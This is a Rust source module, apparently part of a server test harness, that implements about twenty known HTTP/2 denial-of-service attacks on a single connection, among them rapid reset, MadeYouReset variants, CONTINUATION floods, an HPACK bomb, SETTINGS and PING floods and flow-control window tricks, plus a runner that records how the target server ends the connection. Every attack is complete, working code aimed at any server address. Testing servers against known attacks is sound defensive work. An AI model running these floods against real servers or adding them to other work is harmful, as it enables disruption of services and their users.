//! Known denial-of-service attacks on HTTP/2 servers. Each uses one connection and continues until the server stops it.
//!
//! Names are those of the Netflix report of 2019 (CVE-2019-9511 and following), of rapid reset (CVE-2023-44487), of the
//! CONTINUATION flood (VU#421644) and of MadeYouReset (CVE-2025-8671).

use std::io;
use std::net::SocketAddr;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use super::{ReceivedFrame, Wire, flag, get, kind, literal};

/// The server under attack.
#[derive(Debug, Clone, Copy)]
pub struct AttackTarget {
    /// The server's address.
    pub address: SocketAddr,
    /// A path with a short response.
    pub short: &'static str,
    /// A path with a response of megabytes.
    pub long: &'static str,
}

/// The end of an attack's connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    /// GOAWAY with this code (RFC 9113 §7).
    GoAway(u32),
    /// Closed without a GOAWAY.
    Closed,
    /// The server stopped reading.
    Stopped,
    /// The server accepted all frames until the time was over.
    Absorbed,
}

impl AttackOutcome {
    /// GOAWAY with ENHANCE_YOUR_CALM.
    pub const CALM: Self = Self::GoAway(0xb);
}

/// An attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// The attack's name in reports.
    pub name: &'static str,
    /// The client's SETTINGS.
    settings: &'static [(u16, u32)],
    /// Whether the client reads. One that does not read may miss a GOAWAY.
    pub reads: bool,
    /// Sends the frames before the first round.
    begin: fn(&mut Wire, AttackTarget),
    /// Sends the frames of a round, given its number.
    round: fn(&mut Wire, AttackTarget, u32),
}

/// Rounds per write.
const BATCH: u32 = 16;
/// Time after which a server that reads nothing counts as stopped.
const STOPPED: Duration = Duration::from_millis(500);

const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

fn nothing(_: &mut Wire, _: AttackTarget) {}

/// Returns the stream identifier of a round.
fn odd(round: u32) -> u32 {
    2 * round + 1
}

/// An attack without settings or preparation, whose client reads.
const fn plain(name: &'static str, round: fn(&mut Wire, AttackTarget, u32)) -> Attack {
    Attack { name, settings: &[], reads: true, begin: nothing, round }
}

/// All attacks.
pub const ATTACKS: &[Attack] = &[
    plain("rapid reset", |wire, target, round| {
        wire.put_get(odd(round), target.long);
        wire.put(kind::RST_STREAM, flag::NONE, odd(round), &CANCEL);
    }),
    plain("made reset: window of 0", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round), &[0; 4]);
    }),
    plain("made reset: window overflow", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round), &(u32::MAX / 2).to_be_bytes());
    }),
    plain("made reset: DATA behind the end", |wire, target, round| {
        wire.put_get(odd(round), target.long);
        wire.put(kind::DATA, flag::NONE, odd(round), b"x");
    }),
    plain("made reset: PRIORITY on itself", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        let [a, b, c, d] = odd(round).to_be_bytes();
        wire.put(kind::PRIORITY, flag::NONE, odd(round), &[a, b, c, d, 16]);
    }),
    plain("made reset: malformed head", |wire, target, round| {
        let mut block = get(target.short);
        literal(&mut block, b"Upper", b"case");
        wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round), &block);
    }),
    Attack {
        reads: false,
        ..plain("PING without reading", |wire, _, round| {
            wire.put(kind::PING, flag::NONE, 0, &u64::from(round).to_be_bytes());
        })
    },
    Attack {
        reads: false,
        ..plain("SETTINGS without reading", |wire, _, _| wire.put(kind::SETTINGS, flag::NONE, 0, &[]))
    },
    plain("SETTINGS of thousands", |wire, _, round| {
        // 2730 settings of 6 bytes just fit the default maximum frame size of 16 384 bytes.
        let entry = [0, INITIAL_WINDOW_SIZE as u8, 0, 0, 0, round as u8];
        wire.put(kind::SETTINGS, flag::NONE, 0, &entry.repeat(2730));
    }),
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::END_HEADERS, 1, &get(target.short)),
        ..plain("empty DATA", |wire, _, _| wire.put(kind::DATA, flag::NONE, 1, &[]))
    },
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short)),
        ..plain("empty CONTINUATION", |wire, _, _| wire.put(kind::CONTINUATION, flag::NONE, 1, &[]))
    },
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short)),
        ..plain("CONTINUATION without end", |wire, _, _| {
            let mut block = Vec::new();
            literal(&mut block, b"x-more", &[b'x'; 16_000]);
            wire.put(kind::CONTINUATION, flag::NONE, 1, &block);
        })
    },
    Attack {
        // An entry that nearly fills the dynamic table (RFC 7541 §4.2), sent with the first request.
        begin: |wire, target| {
            let mut block = get(target.short);
            let mut entry = Vec::new();
            literal(&mut entry, b"x-bomb", &[b'x'; 3900]);
            // Literal with incremental indexing.
            entry[0] = 0x40;
            block.extend(entry);
            wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 1, &block);
        },
        ..plain("HPACK bomb", |wire, target, round| {
            let mut block = get(target.short);
            // The index of the newest entry in the dynamic table.
            block.extend([0x80 | 62; 12_000]);
            wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round + 1), &block);
        })
    },
    plain("fields of no name and no value", |wire, target, round| {
        let mut block = get(target.short);
        (0..4000).for_each(|_| literal(&mut block, b"", b""));
        wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round), &block);
    }),
    Attack {
        settings: &[(INITIAL_WINDOW_SIZE, 0)],
        ..plain("large answers, closed windows", |wire, target, round| {
            // Opens as many streams as the server allows, then keeps the connection alive.
            if round < 128 {
                wire.put_get(odd(round), target.long);
            } else {
                wire.put(kind::PING, flag::ACK, 0, &[0; 8]);
                std::thread::sleep(Duration::from_millis(2));
            }
        })
    },
    Attack {
        settings: &[(INITIAL_WINDOW_SIZE, 1)],
        begin: |wire, target| (0..100).for_each(|round| wire.put_get(odd(round), target.long)),
        ..plain("windows of one byte", |wire, _, round| {
            wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round % 100), &1u32.to_be_bytes());
        })
    },
    Attack {
        begin: |wire, target| wire.put_get(1, target.short),
        ..plain("PRIORITY churn", |wire, _, round| {
            wire.put(kind::PRIORITY, flag::NONE, odd(round % 1000), &[0, 0, 0, 0, round as u8]);
        })
    },
    plain("heads that never end", |wire, target, round| {
        // The head stays open, so no frame other than its CONTINUATION may follow on this connection.
        if round == 0 {
            wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short));
        }
        std::thread::sleep(Duration::from_millis(5));
    }),
    Attack {
        reads: false,
        ..plain("requests without reading", |wire, target, round| wire.put_get(odd(round), target.short))
    },
];

impl Attack {
    /// Attacks on one connection until the server stops it or `most` has passed.
    ///
    /// # Errors
    /// When the connection cannot be established.
    pub fn run(&self, target: AttackTarget, most: Duration) -> io::Result<AttackOutcome> {
        let until = Instant::now() + most;
        let mut wire = Wire::connect(target.address, self.settings)?;
        wire.set_timeout(STOPPED)?;
        // Read on a second thread, so that a full socket buffer in one direction does not block the other.
        let (sender, ended) = mpsc::channel();
        let mut reader = wire.twin()?;
        let reads = self.reads;
        let (go, begin) = mpsc::channel::<()>();
        let reading = std::thread::spawn(move || {
            if !reads {
                let _ = begin.recv();
            }
            let _ = sender.send(last_word(&mut reader, until));
        });
        (self.begin)(&mut wire, target);
        let mut round = 0;
        // Set once a write fails.
        let mut refused = None;
        while Instant::now() < until && refused.is_none() {
            (0..BATCH).for_each(|step| (self.round)(&mut wire, target, round + step));
            round += BATCH;
            refused = wire.flush().err();
            if reading.is_finished() {
                break;
            }
        }
        // Starts a reader that was held back, to collect a GOAWAY that may be waiting.
        drop(go);
        // A write that timed out means that the server no longer reads.
        let stopped =
            refused.is_some_and(|error| matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut));
        // A full socket buffer is the server's answer; this client does not wait for a GOAWAY.
        if stopped && !self.reads {
            return Ok(AttackOutcome::Stopped);
        }
        Ok(match ended.recv().unwrap_or(None) {
            Some(AttackOutcome::Absorbed) if stopped => AttackOutcome::Stopped,
            Some(outcome) => outcome,
            None => AttackOutcome::Closed,
        })
    }
}

/// Reads until the connection ends and returns how it ended; [`AttackOutcome::Absorbed`] when it is still open at
/// `until`. `None` means closed without a GOAWAY.
fn last_word(wire: &mut Wire, until: Instant) -> Option<AttackOutcome> {
    loop {
        match wire.receive() {
            Ok(Some(ReceivedFrame { kind: kind::GOAWAY, payload, .. })) => {
                let code = payload.get(4..8)?.try_into().ok()?;
                return Some(AttackOutcome::GoAway(u32::from_be_bytes(code)));
            }
            Ok(Some(_)) if Instant::now() < until => {}
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                if Instant::now() >= until {
                    return Some(AttackOutcome::Absorbed);
                }
            }
            Ok(Some(_)) => return Some(AttackOutcome::Absorbed),
            Ok(None) | Err(_) => return None,
        }
    }
}
